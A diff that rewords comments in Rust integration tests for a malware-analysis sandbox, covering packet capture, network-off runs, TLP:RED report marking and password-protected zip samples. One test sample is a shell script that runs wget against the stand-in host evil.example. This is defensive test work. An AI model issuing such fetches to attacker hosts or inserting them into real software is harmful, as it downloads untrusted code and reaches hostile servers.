@@ -1,5 +1,5 @@
-//! What whoever hands in a sample may choose, and the packets that can be had afterwards: real VMs, the binary as it is used, and a reader of
-//! pcap files that is not ours.
+//! Tests of the choices that can be made when a sample is submitted, and of the packets that can be downloaded afterwards: with real VMs,
+//! the real binary, and a reader of pcap files that is not ours.
 
 use crate::lab_vm::Lab;
 use serde_json::{Value, json};
@@ -9,7 +9,7 @@ use std::process::Command;
 const SCRIPT: &[u8] = b"#!/bin/sh\nwget -q -O /dev/null http://evil.example/x\necho over\n";
 
 impl Lab {
-    /// Hands in a sample with these words, and waits for its end.
+    /// Submits a sample with these options, and waits until it has ended.
     fn chosen(&self, name: &str, content: &[u8], words: &[&str]) -> Value {
         let file = self.site.home().join(name);
         fs::write(&file, content).unwrap();
@@ -41,7 +41,7 @@ fn packets_are_kept_and_a_sample_is_run_as_it_was_chosen() {
     let number = page["sample"].to_string();
     let capture = &report_of(&page, "run-linux")["full"]["capture"];
     assert!(capture["packets"].as_u64().is_some_and(|packets| packets > 5) && capture["cut"] == false, "{capture}");
-    // As packets, for a reader that is not ours.
+    // The packets, read by a program that is not ours.
     let file = lab.site.home().join("call.pcap");
     let said = lab.site.weir(&["lab", "pcap", &number, "--output", file.to_str().unwrap()]).ok();
     assert!(said.contains("call.pcap"), "{said}");
@@ -52,10 +52,10 @@ fn packets_are_kept_and_a_sample_is_run_as_it_was_chosen() {
     for said in ["A? evil.example.", "GET /x HTTP/1.1", "Host: evil.example", "HTTP/1.1 200 OK"] {
         assert!(text.contains(said), "{said:?} is not in\n{text}");
     }
-    // Each packet once.
+    // Each packet must be there only once.
     let questions = text.matches(" A? evil.example.").count();
     assert!(questions <= 2, "{questions} questions for one name:\n{text}");
-    // Who may be told is in every form.
+    // Every format says who may be told.
     let form = |form: &str| lab.site.weir(&["lab", "report", &number, form]).ok();
     assert!(form("--misp").contains("tlp:red") && form("--html").contains("TLP:RED"));
     let bundle: Value = serde_json::from_str(&form("--stix")).unwrap();
@@ -63,7 +63,8 @@ fn packets_are_kept_and_a_sample_is_run_as_it_was_chosen() {
     assert_eq!((&marking["type"], &marking["name"]), (&json!("marking-definition"), &json!("TLP:RED")));
     let others = &bundle["objects"].as_array().unwrap()[1..];
     assert!(others.iter().all(|object| object["object_marking_refs"] == json!([marking["id"]])), "{bundle:#}");
-    // Without a network nothing is answered, nothing is said, and the result is not taken for one with a network, nor the other way round.
+    // Without a network, nothing answers and nothing is sent. Such a result must not be used for a run with a network, nor the other way
+    // round.
     let alone = lab.chosen("call.sh", SCRIPT, &["--network", "none", "--watch", "30"]);
     let network = report_of(&alone, "run-linux")["full"]["network"].to_string();
     assert!(!network.contains("http"), "{network}");
@@ -77,7 +78,7 @@ fn packets_are_kept_and_a_sample_is_run_as_it_was_chosen() {
     assert_eq!(report_of(&usual, "run-linux")["full"]["network"].as_array().map(Vec::len), Some(3), "{usual:#}");
     let of = usual["results"].as_array().unwrap().iter().find(|result| result["plugin"] == "run-linux").unwrap();
     assert_eq!(of["of_sample"], page["sample"], "it is known from the first");
-    // Looked at, and not run: nobody says that it is clean.
+    // A sample that was examined but not run is never called clean.
     let still = lab.chosen("still.sh", b"#!/bin/sh\necho hello\n", &["--guest", "none"]);
     assert!(!plugins(&still).iter().any(|name| name.starts_with("run-")), "{still:#}");
     assert_eq!(still["verdict"], "unknown", "{still:#}");
@@ -106,7 +107,7 @@ fn choices_that_cannot_be_had_are_refused_in_words() {
     assert_eq!(lab.site.json(&["lab", "list"]), json!([]), "none of them was taken in");
 }
 
-/// `inner.txt`, by zip with the password "geheim".
+/// A zip archive with `inner.txt` and the password "geheim".
 const LOCKED: &str = "UEsDBAoACQAAANuscV208v66EgAAAAYAAAAJAAAAaW5uZXIudHh0OYro51qtSxOzA/DS3qE2nW8RUEsHCLTy/roSAAAABgAAAFBLAQIeAwoACQAAANuscV208v66EgAAAAYAAAAJAAAAAAAAAAEAAACkgQAAAABpbm5lci50eHRQSwUGAAAAAAEAAQA3AAAASQAAAAAA";
 
 #[test]
@@ -117,7 +118,7 @@ fn a_password_that_comes_with_an_archive_opens_it_and_nobody_elses() {
     let closed = lab.chosen("locked.zip", &locked, &[]);
     assert_eq!((closed["verdict"].as_str(), closed["children"].as_array().map(Vec::len)), (Some("unknown"), Some(0)));
     assert!(closed["reasons"].to_string().contains("has a password that is not known"), "{closed:#}");
-    // The same content: what was found without the password is not what is found with it.
+    // The content is the same, but results without the password must not be used for a run with it.
     let open = lab.chosen("locked.zip", &locked, &["--password", "geheim"]);
     assert_eq!(open["children"][0]["name"], "inner.txt", "{open:#}");
     assert_eq!(open["choices"]["passwords"], json!(["(not shown)"]));
@@ -125,7 +126,7 @@ fn a_password_that_comes_with_an_archive_opens_it_and_nobody_elses() {
     assert_eq!(again["children"], json!([]), "{again:#}");
 }
 
-/// A jar is an archive whose classes are looked at; it runs nowhere here, and the reasons say so.
+/// A jar is an archive whose classes are examined. It cannot be run here, and the reasons say so.
 #[test]
 fn a_jar_is_opened_and_not_called_clean() {
     let lab = Lab::with("[]", "plugins_off = [\"clamav\"]\n");
